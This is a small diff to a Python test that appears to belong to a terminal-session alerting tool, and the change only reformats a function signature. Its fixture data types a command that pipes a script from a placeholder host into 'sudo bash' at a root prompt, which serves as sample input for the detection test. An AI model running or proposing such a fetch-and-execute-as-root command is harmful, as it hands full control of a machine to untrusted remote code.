@@ -319,9 +319,7 @@ def _typed_segment(
     }  # fmt: skip
 
 
-def test_output_alert_links_to_when_the_command_began_to_be_typed_not_to_the_prompt() -> (
-    None
-):
+def test_output_alert_links_to_when_the_command_began_to_be_typed_not_to_the_prompt() -> None:
     # The prompt was printed at 0.5 s; the user typed the command an hour later.
     seg = _typed_segment("root@db-1:~# ", "curl -s https://x.example/i.sh | sudo bash",
                          prompt_ms=500, first_key_ms=3_600_000)  # fmt: skip
